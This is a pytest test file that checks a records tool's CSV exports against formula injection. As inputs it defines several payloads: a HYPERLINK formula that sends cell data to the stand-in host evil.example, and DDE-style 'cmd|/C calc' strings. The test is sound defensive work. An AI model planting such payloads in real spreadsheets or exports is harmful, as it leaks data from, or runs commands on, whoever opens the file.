"""CSV formula injection (issue 14, finding 6): text staff type reaches cameras.csv,
access.csv and `report disclosures --csv` as text, never as a live formula (OWASP: a cell
starting with = + - @ tab or CR gets a leading apostrophe). Read back as text, on SQLite
and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from click.testing import Result

from capture.synthetic import write_clip
from cli.main import custodes
from ledger.clock import ManualClock
from ledger.text import FORMULA_STARTS, csv_cell, register_cell
from projections.render_data import csv_text
from tests.conftest import NOW, SETUP
from tests.identity import CustodesRunner

D = "Dana Director"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_starting_with_a_formula_character_is_text(start: str) -> None:
    value = f"{start}1+1"
    assert csv_cell(value) == "'" + value
    assert register_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text(["h"], [[value]]), newline="")))
    assert rows == [["h"], ["'" + value]]


def test_other_cells_are_left_as_they_are() -> None:
    for value in ("Main lobby", "2026-11-01", "R-2026-0001", "'quoted", "a=b", ""):
        assert csv_cell(value) == value
    assert register_cell(["a", "b"]) == "a;b"
    assert register_cell([{"b": "=1", "a": 2}, "x"]) == '{"a": 2, "b": "=1"};x'
    assert register_cell(3) == 3


def run(data: Path, *args: str, code: int = 0, now: datetime = NOW) -> Result:
    result = CustodesRunner().invoke(
        custodes, ["--data-dir", str(data), *args], obj=ManualClock(now)
    )
    assert result.exit_code == code, (result.stdout, result.stderr)
    return result


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formulas_typed_by_staff_reach_every_csv_as_text(tmp_path: Path) -> None:
    data = tmp_path / "data"
    run(data, "init", "--director", D, now=SETUP)
    run(data, "camera", "add", "lobby-1", "--location", HYPERLINK, "--zone", "public",
        "--signage-posted", "--as", D, now=SETUP)  # fmt: skip
    rec = NOW - timedelta(hours=2)
    (tmp_path / "in").mkdir()
    source = write_clip(
        tmp_path / "in" / f"lobby-1_{rec:%Y%m%dT%H%M%SZ}.mp4",
        seconds=1, fps=5, size=(160, 120), start=rec,
    )  # fmt: skip
    ingested = run(data, "footage", "ingest", str(source), "--camera", "lobby-1", "--as", D,
                   "--json")  # fmt: skip
    seg = json.loads(ingested.stdout)[0]["segment_id"]
    run(data, "footage", "view", seg, "--reason", CMD, "--purpose", "safety", "--as", D,
        "--out", str(tmp_path / "copy.mp4"))  # fmt: skip
    run(data, "request", "open", "--requester-kind", "public", "--requester", SUM,
        "--received-by", D, "--records", "footage", "--footage", seg, "--description",
        "footage of the lobby", "--as", D)  # fmt: skip
    run(data, "request", "decide", "R-2026-0001", "--deny", "--reason", MINUS, "--as", D)

    out = tmp_path / "csv"
    run(data, "report", "compliance", "--from", "2026-11-01", "--to", "2026-11-02",
        "--format", "csv", "--out", str(out), "--as", D)  # fmt: skip
    cameras = cells((out / "cameras.csv").read_text(encoding="utf-8"))
    assert "'" + HYPERLINK in cameras
    access = cells((out / "access.csv").read_text(encoding="utf-8"))
    assert "'" + CMD in access
    register = run(data, "report", "disclosures", "--csv").stdout
    assert "'" + SUM in cells(register) and "'" + MINUS in cells(register)
    for text in [register, *(p.read_text(encoding="utf-8") for p in out.iterdir())]:
        for cell in cells(text):
            assert not cell.startswith(FORMULA_STARTS), cell
